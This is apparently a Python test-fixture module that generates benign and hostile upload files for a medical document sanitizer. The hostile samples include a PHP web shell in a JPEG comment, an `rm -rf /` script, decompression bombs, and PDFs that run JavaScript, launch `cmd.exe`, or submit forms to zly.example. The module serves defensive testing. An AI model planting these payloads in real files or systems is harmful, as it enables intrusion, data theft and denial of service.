"""Files a patient may send, and files nobody should: made here, byte by byte."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw

MAX = 8 * 1024 * 1024
# In two parts, so that a scanner on the developer's machine does not find this file.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Sample:
    """`forbidden`: what may not be in the clean file, when there is one; `must_refuse`: there may be none."""

    title: str
    name: str
    content: bytes
    forbidden: tuple[bytes, ...] = ()
    must_refuse: bool = True


# --- making


def picture(
    kind: str = "JPEG", size: tuple[int, int] = (320, 240), mode: str = "RGB", **options: object
) -> bytes:
    image = Image.new(mode, size, 200 if mode in {"L", "P", "1", "I;16"} else tuple([200] * len(mode)))
    if mode in {"RGB", "RGBA", "L"}:
        ImageDraw.Draw(image).text(
            (10, 10), "Morfologia krwi", fill=0 if mode == "L" else tuple([0] * len(mode))
        )
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def pdf(pages: int = 1, text: str = "Wynik badania") -> bytes:
    return _written(_document(pages, text))


def _document(pages: int = 1, text: str = "Wynik badania") -> pikepdf.Pdf:
    document = pikepdf.new()
    font = document.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(pages):
        stream = pikepdf.Stream(document, f"BT /F1 18 Tf 72 720 Td ({text} {number + 1}) Tj ET".encode())
        page = Dictionary(
            Type=Name.Page,
            MediaBox=[0, 0, 595, 842],
            Contents=stream,
            Resources=Dictionary(Font=Dictionary(F1=font)),
        )
        document.pages.append(pikepdf.Page(document.make_indirect(page)))
    return document


def _written(document: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def _javascript(code: str = "app.alert('zle')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _annotated(**note: object) -> bytes:
    document = _document()
    annotation = document.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 100, 100], **note))
    document.pages[0].obj.Annots = Array([annotation])
    return _written(document)


def _embedded(content: bytes, name: str) -> bytes:
    document = _document()
    document.attachments[name] = pikepdf.AttachedFileSpec(document, content, filename=name)
    return _written(document, compress_streams=False)


def _in_catalog(**entries: object) -> bytes:
    document = _document()
    for key, value in entries.items():
        document.Root[f"/{key}"] = value
    return _written(document)


def _zip(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, content)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def _png_of(width: int, height: int, data: bytes, extra: bytes = b"") -> bytes:
    header = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + extra + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )  # fmt: skip


def _exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "TelefonFirmy", "Model-7"
    exif.get_ifd(0x8825).update(
        {1: "N", 2: (52.0, 13.0, 47.0), 3: "E", 4: (21.0, 0.0, 44.0), 29: "2026:11:20"}
    )
    return exif.tobytes()


def _jpeg_with(segment: bytes) -> bytes:
    """A comment segment (0xFE) behind the start of the picture."""
    good = picture()
    return good[:2] + b"\xff\xfe" + struct.pack("!H", len(segment) + 2) + segment + good[2:]


def _bomb_objects() -> bytes:
    """An object stream that unpacks to gigabytes."""
    packed = zlib.compress(b"0" * 1, 9)
    layer = zlib.compressobj(9)
    packed = b"".join(layer.compress(b" " * 1_000_000) for _ in range(1500)) + layer.flush()
    return (
        b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(packed)).encode() + b">>stream\n" + packed + b"\nendstream\nendobj\n"
        + b"trailer<</Root 9 0 R>>\nstartxref\n0\n%%EOF"
    )  # fmt: skip


# --- hostile


def hostile() -> Iterator[Sample]:
    """More than sixty."""
    yield from _other_kinds()
    yield from _broken()
    yield from _images_with_more()
    yield from _pdfs_that_act()


def _other_kinds() -> Iterator[Sample]:
    html = b"<html><script>alert(1)</script></html>"
    yield Sample("EICAR alone", "eicar.com", EICAR)
    yield Sample("EICAR as pdf", "wynik.pdf", EICAR)
    yield Sample("EICAR zipped", "wynik.zip", _zip("eicar.com", EICAR))
    yield Sample("zip named pdf", "wynik.pdf", _zip("a.exe", b"MZ" + b"\0" * 100))
    yield Sample("program", "program.exe", b"MZ\x90\0" + b"\0" * 500)
    yield Sample("program named pdf", "wynik.pdf", b"MZ\x90\0" + b"\0" * 500)
    yield Sample("pdf with a program's name", "wynik.pdf.exe", pdf())
    yield Sample("picture with a script's name", "zdjecie.jpg.js", picture())
    yield Sample("program's name hidden by bidi", "wynik\u202efdp.exe", pdf())
    yield Sample("ELF", "wynik.png", b"\x7fELF" + b"\0" * 200)
    yield Sample("script", "skrypt.sh", b"#!/bin/sh\nrm -rf /\n")
    yield Sample("html", "wynik.html", html)
    yield Sample("html named png", "wynik.png", html)
    yield Sample(
        "svg with a script", "obraz.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    )
    yield Sample("svg named png", "obraz.png", b"<?xml version='1.0'?><svg onload='alert(1)'/>")
    yield Sample("gif", "obraz.gif", picture("GIF", mode="P"))
    yield Sample("gif and javascript", "obraz.jpg", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//")
    yield Sample("bmp", "obraz.bmp", picture("BMP"))
    yield Sample("tiff", "skan.tif", picture("TIFF"))
    yield Sample("webp", "obraz.webp", picture("WEBP"))
    yield Sample("heic", "IMG_0001.HEIC", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 400)
    yield Sample("film", "film.mp4", b"\0\0\0\x18ftypmp42\0\0\0\0" + b"\0" * 400)
    yield Sample("word", "opis.docx", _zip("word/document.xml", b"<w/>"))
    yield Sample("old word with macros", "opis.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    yield Sample("rtf", "opis.rtf", b"{\\rtf1 \\objdata 0105}")
    yield Sample("postscript", "wynik.pdf", b"%!PS-Adobe-3.0\n(r) file")
    yield Sample("pdf behind other bytes", "wynik.pdf", b"GIF89a" + b"\0" * 10 + pdf())
    yield Sample("pdf behind a line of html", "wynik.pdf", html + pdf())
    yield Sample("pdf behind a byte order mark", "wynik.pdf", b"\xef\xbb\xbf" + pdf())
    yield Sample("picture behind a newline", "zdjecie.jpg", b"\n" + picture())
    yield Sample("text", "notatka.txt", "Boli mnie głowa".encode())
    yield Sample("empty", "puste.pdf", b"")
    yield Sample("one byte", "x.jpg", b"\xff")


def _broken() -> Iterator[Sample]:
    good, page = picture(), pdf()
    yield Sample("too large by a byte", "duzy.pdf", page + b"\0" * (MAX + 1 - len(page)))
    yield Sample("picture cut in the middle", "zdjecie.jpg", good[: len(good) // 2])
    yield Sample("only the first bytes of a picture", "zdjecie.jpg", good[:20])
    yield Sample("png cut in the middle", "obraz.png", picture("PNG")[:200])
    yield Sample("png with wrong checksums", "obraz.png", picture("PNG").replace(b"IDAT", b"IDAU"))
    yield Sample("jpeg's beginning, html behind", "zdjecie.jpg", b"\xff\xd8\xff\xe0" + b"<script>" * 100)
    yield Sample(
        "png's beginning, noise behind", "a.png", b"\x89PNG\r\n\x1a\n" + random.Random(1).randbytes(5000)
    )
    yield Sample("pdf's beginning, noise behind", "a.pdf", b"%PDF-1.7\n" + random.Random(2).randbytes(5000))
    yield Sample("pdf without pages", "a.pdf", _written(pikepdf.new()))
    yield Sample("pdf cut in the middle", "a.pdf", page[: len(page) // 2])
    yield Sample("201 pages", "ksiazka.pdf", pdf(201))
    yield Sample(
        "a picture of 2.5 thousand million pixels",
        "bomba.png",
        _png_of(50000, 50000, zlib.compress(b"\0" * 99)),
    )
    yield Sample("a packed bomb", "bomba.png", _png_of(30000, 30000, zlib.compress(b"\0" * 20_000_000, 9)))
    yield Sample("a picture without size", "zero.png", _png_of(0, 0, zlib.compress(b"")))
    yield Sample("a pdf that unpacks to gigabytes", "bomba.pdf", _bomb_objects())
    yield Sample("pdf that refers to itself", "petla.pdf", _loop())
    yield Sample(
        "pdf nested too deep", "gleboko.pdf", b"%PDF-1.4\n1 0 obj\n" + b"[" * 100_000 + b"\nendobj\n%%EOF"
    )
    locked = pikepdf.Encryption(owner="wlasciciel", user="pacjent")
    yield Sample("pdf with a password", "tajne.pdf", _written(_document(), encryption=locked))
    owner = pikepdf.Encryption(owner="wlasciciel", user="")
    yield Sample("pdf with an owner's password", "tajne.pdf", _written(_document(), encryption=owner))


def _loop() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF"
    )


def _images_with_more() -> Iterator[Sample]:
    secret = b"PESEL 44051401359"
    tail = _zip("eicar.com", EICAR)
    gps = (b"TelefonFirmy", b"Exif", b"2026:11:20")
    yield Sample("photo with its position", "zdjecie.jpg", picture(exif=_exif()), gps, False)
    yield Sample("png with its position", "obraz.png", picture("PNG", exif=_exif()), (*gps, b"eXIf"), False)
    yield Sample("zip behind a picture", "zdjecie.jpg", picture() + tail, (b"PK\x03\x04", b"EICAR"), False)
    yield Sample("zip behind a png", "obraz.png", picture("PNG") + tail, (b"PK\x03\x04", b"EICAR"), False)
    yield Sample("virus behind a picture", "zdjecie.jpg", picture() + EICAR, (b"EICAR",), False)
    yield Sample("pdf behind a picture", "zdjecie.jpg", picture() + pdf(), (b"%PDF-",), False)
    yield Sample(
        "html in a comment", "zdjecie.jpg", _jpeg_with(b"<script>alert(1)</script>"), (b"<script>",), False
    )
    yield Sample(
        "php in a comment", "zdjecie.jpg", _jpeg_with(b"<?php system($_GET[0]);?>"), (b"<?php",), False
    )
    yield Sample("a person in a comment", "zdjecie.jpg", _jpeg_with(secret), (secret,), False)
    text = _png_chunk(b"tEXt", b"Comment\0" + secret)
    shell = _png_chunk(b"zTXt", b"Raw\0\0" + zlib.compress(b"<script>alert(1)</script>"))
    row = zlib.compress(b"".join(b"\0" + b"\xc8" * 30 for _ in range(10)))
    yield Sample(
        "a person in a png's text", "obraz.png", _png_of(10, 10, row, text), (secret, b"tEXt"), False
    )
    yield Sample("packed text in a png", "obraz.png", _png_of(10, 10, row, shell), (b"zTXt",), False)
    bomb = _png_chunk(b"zTXt", b"Raw\0\0" + zlib.compress(b"a" * 300_000_000, 9))
    yield Sample("a bomb in a png's text", "obraz.png", _png_of(10, 10, row, bomb), (b"zTXt",), False)
    frames = [Image.new("RGB", (50, 50), (n * 60, 0, 0)) for n in range(4)]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    yield Sample("several pictures in one png", "obraz.png", out.getvalue(), (b"fdAT", b"acTL"), False)


def _pdfs_that_act() -> Iterator[Sample]:
    js = (b"JavaScript", b"app.alert", b"/JS")
    yield Sample("script at opening", "a.pdf", _in_catalog(OpenAction=_javascript()), js, False)
    additional = Dictionary(WC=_javascript(), WS=_javascript())
    yield Sample("script at closing", "a.pdf", _in_catalog(AA=additional), js, False)
    names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _javascript()])))
    yield Sample("script by name", "a.pdf", _in_catalog(Names=names), js, False)
    launch = Dictionary(
        S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))
    )
    yield Sample("starts a program", "a.pdf", _in_catalog(OpenAction=launch), (b"Launch", b"cmd.exe"), False)
    yield Sample(
        "a link that starts a program", "a.pdf", _annotated(Subtype=Name.Link, A=launch), (b"cmd.exe",), False
    )
    yield Sample("a link with a script", "a.pdf", _annotated(Subtype=Name.Link, A=_javascript()), js, False)
    submit = Dictionary(S=Name.SubmitForm, F=String("https://zly.example/zbierz"))
    yield Sample(
        "sends a form away", "a.pdf", _annotated(Subtype=Name.Widget, A=submit), (b"zly.example",), False
    )
    remote = Dictionary(S=Name.GoToR, F=String("\\\\zly.example\\share"), D=Array([0, Name.Fit]))
    yield Sample(
        "opens a foreign file", "a.pdf", _annotated(Subtype=Name.Link, A=remote), (b"zly.example",), False
    )
    chained = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=_javascript())
    yield Sample("a script behind a harmless step", "a.pdf", _in_catalog(OpenAction=chained), js, False)
    yield Sample(
        "an embedded program",
        "a.pdf",
        _embedded(b"MZ" + b"\x90" * 300, "a.exe"),
        (b"a.exe", b"MZ\x90"),
        False,
    )
    yield Sample("an embedded virus", "a.pdf", _embedded(EICAR, "eicar.com"), (b"EICAR", b"eicar.com"), False)
    yield Sample(
        "an embedded pdf",
        "a.pdf",
        _embedded(_in_catalog(OpenAction=_javascript()), "b.pdf"),
        (b"b.pdf",),
        False,
    )
    yield Sample(
        "a form of its own kind",
        "a.pdf",
        _in_catalog(AcroForm=Dictionary(XFA=String("<xdp/>"))),
        (b"XFA",),
        False,
    )
    rich = _annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary()))
    yield Sample("rich media", "a.pdf", rich, (b"RichMedia",), False)
    yield Sample(
        "attached to the page",
        "a.pdf",
        _annotated(Subtype=Name.FileAttachment, FS=String("x")),
        (b"FileAttachment",),
        False,
    )
    document = _document()
    document.pages[0].obj.AA = Dictionary(O=_javascript())
    yield Sample("script of a page", "a.pdf", _written(document), js, False)
    packed = _in_catalog(OpenAction=_javascript())
    with pikepdf.open(io.BytesIO(packed)) as document:
        hidden = _written(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield Sample("a script packed away", "a.pdf", hidden, js, False)
    yield Sample(
        "a zip behind a pdf", "a.pdf", pdf() + _zip("eicar.com", EICAR), (b"PK\x03\x04", b"EICAR"), False
    )
    yield Sample("html behind a pdf", "a.pdf", pdf() + b"<script>alert(1)</script>", (b"<script>",), False)
    info = _document()
    info.docinfo["/Author"] = "Jan Kowalski 44051401359"
    yield Sample("a person in the properties", "a.pdf", _written(info), (b"44051401359",), False)


# --- good


def good() -> Iterator[Sample]:
    """Forty files as phones, scanners and laboratories make them."""
    for number, size in enumerate(
        [(1, 1), (640, 480), (3000, 2000), (4032, 3024), (100, 4000), (8064, 6048)]
    ):
        yield Sample(f"photo {size}", f"IMG_{number}.jpg", picture(size=size))
    for mode in ("RGB", "L", "CMYK"):
        yield Sample(f"jpeg {mode}", f"skan {mode}.jpeg", picture(mode=mode))
    for mode in ("RGB", "RGBA", "L", "LA", "P", "1", "I;16"):
        yield Sample(f"png {mode}", f"zrzut {mode}.png", picture("PNG", mode=mode))
    yield Sample("progressive", "a.jpg", picture(progressive=True))
    for turn in (1, 3, 6, 8):
        exif = Image.Exif()
        exif[0x0112] = turn
        yield Sample(f"turned {turn}", f"obrot{turn}.jpg", picture(exif=exif.tobytes()))
    frames = [Image.new("RGB", (64, 48), (9, n * 50, 9)) for n in range(2)]
    out = io.BytesIO()
    frames[0].save(out, "MPO", save_all=True, append_images=frames[1:])
    yield Sample("photo with a second picture", "IMG_MPO.JPG", out.getvalue())
    yield Sample("named in capitals", "WYNIK.JPG", picture())
    yield Sample("png named jpg", "zrzut.jpg", picture("PNG"))
    yield Sample("without an ending", "zdjecie", picture())
    yield Sample("Polish letters", "badanie krwi – żółć, śledziona (2).png", picture("PNG"))
    yield Sample("with a palette and transparency", "a.png", picture("PNG", mode="P", transparency=0))
    noise = Image.frombytes("RGB", (1500, 1500), random.Random(3).randbytes(1500 * 1500 * 3))
    out = io.BytesIO()
    noise.save(out, "JPEG", quality=95)
    yield Sample("a large photo", "duze.jpg", out.getvalue())
    for pages in (1, 2, 30, 200):
        yield Sample(f"{pages} pages", f"wypis {pages}.pdf", pdf(pages))
    for version in ("1.3", "1.4", "1.7", "2.0"):
        yield Sample(f"pdf {version}", "wynik.pdf", _written(_document(), min_version=version))
    yield Sample(
        "packed pdf",
        "wynik.pdf",
        _written(_document(9), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    )
    yield Sample("pdf for the web", "wynik.pdf", _written(_document(3), linearize=True))
    yield Sample(
        "pdf with a link",
        "wynik.pdf",
        _annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://lab.example"))),
    )
    out = io.BytesIO()
    Image.new("RGB", (1200, 1700), (250, 250, 250)).save(out, "PDF")
    yield Sample("scanned pdf", "skan.pdf", out.getvalue())
    yield Sample("exactly the limit", "limit.pdf", _of_size(MAX))
    yield Sample("pdf with bookmarks", "wypis.pdf", _bookmarked())


def _of_size(size: int) -> bytes:
    def made(letters: int) -> bytes:
        return _written(_document(text="A" * letters), compress_streams=False)

    letters = size - len(made(8_000_000)) + 8_000_000
    return made(letters)


def _bookmarked() -> bytes:
    document = _document(3)
    with document.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Wyniki", 1))
    return _written(document)
